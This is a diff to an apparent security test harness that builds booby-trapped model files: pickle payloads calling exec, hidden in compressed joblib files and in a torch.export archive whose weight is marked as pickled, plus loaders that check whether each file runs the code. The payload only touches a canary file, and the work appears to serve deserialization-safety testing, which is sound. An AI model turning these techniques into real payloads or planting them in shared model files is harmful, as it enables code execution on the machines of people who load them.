@@ -292,6 +292,15 @@ def containers(canary: str) -> dict[str, tuple[bytes, str]]:
     npy_header += " " * (63 - len(npy_header) - 10) + "\n"
     out["npy-object-array"] = (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_header)) + npy_header.encode()
                                + evil, "numpy")
+    import bz2
+    import gzip
+    import lzma
+    import zlib
+
+    for name, compress in (("zlib", zlib.compress), ("gzip", gzip.compress), ("bz2", bz2.compress),
+                           ("xz", lzma.compress),
+                           ("lzma", lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE))):
+        out[f"joblib-{name}-compressed"] = (compress(evil), "compressed")
     nested = b"\x80\x02}" + _s("blob") + b"C" + bytes([len(evil)]) + evil + b"s."
     out["nested-pickle-in-field"] = (nested, "field")
     return out
@@ -324,7 +333,33 @@ def torchscript(canary: str, path: str) -> None:
     torch.jit.save(torch.jit.script(FromFile()), path)
 
 
-_EXTENSIONS = {"pickle": ".pkl", "pickle-all": ".pkl", "field": ".pkl", "torch": ".pt", "numpy": ".npy"}
+def pt2(canary: str, path: str) -> None:
+    """A torch.export archive whose first weight is marked pickled and replaced by a payload: torch.export.load
+    unpickles it with weights_only=False."""
+    import torch
+    from torch import nn
+
+    program = torch.export.export(nn.Linear(2, 1), (torch.randn(1, 2),))
+    buf = io.BytesIO()
+    torch.export.save(program, buf)
+    evil = _torch_zip(b"\x80\x02" + _g("builtins", "exec") + _s(_touch_code(canary)) + b"\x85R.")
+    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+    config_name = next(n for n in src.namelist() if n.endswith("model_weights_config.json"))
+    config = json.loads(src.read(config_name))
+    first = next(iter(config["config"].values()))
+    first["use_pickle"] = True
+    target = config_name.rsplit("/", 1)[0] + "/" + first["path_name"]
+    with zipfile.ZipFile(path, "w") as out:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            if info.filename == config_name:
+                data = json.dumps(config).encode()
+            elif info.filename == target:
+                data = evil
+            out.writestr(info.filename, data)
+
+
+_EXTENSIONS = {"compressed": ".joblib", "pickle": ".pkl", "pickle-all": ".pkl", "field": ".pkl", "torch": ".pt", "numpy": ".npy"}
 
 
 def build(outdir: str, canaries: str) -> dict[str, tuple[str, str, str]]:
@@ -346,7 +381,32 @@ def build(outdir: str, canaries: str) -> dict[str, tuple[str, str, str]]:
     path = os.path.join(outdir, "torchscript-from-file.pt")
     torchscript(canary, path)
     out["torchscript-from-file"] = (path, "jit", canary)
+    canary = os.path.join(canaries, "pt2-pickled-weight")
+    path = os.path.join(outdir, "pt2-pickled-weight.pt2")
+    pt2(canary, path)
+    out["pt2-pickled-weight"] = (path, "export", canary)
     return out
+
+
+def _joblib_load(path: str) -> None:
+    try:
+        import joblib  # type: ignore[import-not-found]
+    except ImportError:
+        import bz2
+        import gzip
+        import lzma
+        import zlib
+
+        data = open(path, "rb").read()
+        for decompress in (zlib.decompress, gzip.decompress, bz2.decompress, lzma.decompress):
+            try:
+                raw = decompress(data)
+            except Exception:
+                continue
+            pickle.loads(raw)
+            return
+    else:
+        joblib.load(path)
 
 
 def run_all(samples: dict[str, tuple[str, str, str]]) -> dict[str, bool]:
@@ -370,6 +430,10 @@ def run_all(samples: dict[str, tuple[str, str, str]]) -> dict[str, bool]:
                 np.load(path, allow_pickle=True)
             elif loader == "jit":
                 torch.jit.load(path)
+            elif loader == "compressed":  # what joblib.load does with a compressed file (joblib itself if installed)
+                _joblib_load(path)
+            elif loader == "export":
+                torch.export.load(path)
             elif loader == "field":
                 with open(path, "rb") as f:
                     pickle.loads(pickle.load(f)["blob"])
